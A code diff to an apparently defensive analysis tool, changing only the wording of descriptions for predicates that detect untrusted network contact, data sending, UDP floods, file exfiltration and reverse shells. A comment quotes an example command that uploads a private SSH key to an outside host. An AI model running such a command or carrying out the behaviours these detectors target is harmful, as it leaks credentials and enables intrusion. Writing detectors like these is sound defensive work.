@@ -9,7 +9,7 @@ import { contentInListHit } from "./sensitive-paths.ts";
 /** `contacts_untrusted_host`: whether code fetches from or sends to a host that is not in the policy's `trustedHosts`. */
 export const contactsUntrustedHost: EffectPredicate = {
   names: ["contacts_untrusted_host", "request_untrusted_source"],
-  description: "Whether it fetches from a host that the policy does not trust, or sends something there.",
+  description: "Whether the code fetches from a host that the policy does not trust, or sends something there.",
   operand: "fetch",
   falseReason: "nothing in the code contacts a host that is not trusted",
   createTest:
@@ -26,7 +26,7 @@ const hostParameter: PredicateParameter = { name: "host", schema: { type: "strin
 /** `sends_data_to`: whether code sends data to one of the operands, as in `sends_data_to("x.org")`; without operands, to any host. */
 export const sendsDataTo: EffectPredicate = {
   names: ["sends_data_to"],
-  description: "Whether it sends data to one of the hosts; without hosts, to any host.",
+  description: "Whether the code sends data to one of the hosts; without hosts, to any host.",
   parameter: hostParameter,
   operand: "send",
   falseReason: "nothing in the code sends data to such a host",
@@ -45,7 +45,7 @@ export const sendsDataTo: EffectPredicate = {
 /** `sends_datagrams`: whether code sends UDP packets, as floods and amplification attacks do. */
 export const sendsDatagrams: EffectPredicate = {
   names: ["sends_datagrams"],
-  description: "Whether it sends packets over UDP itself, as floods and amplification attacks do.",
+  description: "Whether the code sends packets over UDP itself, as floods and amplification attacks do.",
   falseReason: "nothing in the code sends packets over UDP",
   createTest: () => (effect) => {
     return effect.kind === "network" && effect.direction === "out" && effect.protocol === "udp" && certainHit;
@@ -55,7 +55,8 @@ export const sendsDatagrams: EffectPredicate = {
 /** `exfiltrates`: whether code sends the content of a sensitive file, as in `curl -T ~/.ssh/id_rsa https://x.io`. */
 export const exfiltrates: EffectPredicate = {
   names: ["exfiltrates"],
-  description: "Whether it sends the content of a file of the system or of a file with credentials over the network.",
+  description:
+    "Whether the code sends the content of a file of the system or of a file with credentials over the network.",
   operand: "sendFile",
   falseReason: "nothing in the code sends a sensitive file over the network",
   createTest:
@@ -83,7 +84,7 @@ function sensitiveOriginHit(origin: Origin, isTrusted: boolean, { reading, writi
 /** `opens_reverse_shell`: whether code runs commands that come from the other end of a network connection. */
 export const opensReverseShell: EffectPredicate = {
   names: ["opens_reverse_shell"],
-  description: "Whether it lets the other end of a network connection run commands.",
+  description: "Whether the code lets the other end of a network connection run commands.",
   falseReason: "nothing in the code lets others run commands",
   createTest({ effects }) {
     const opensConnection = effects.some((effect) => effect.kind === "network" && !isFetch(effect));
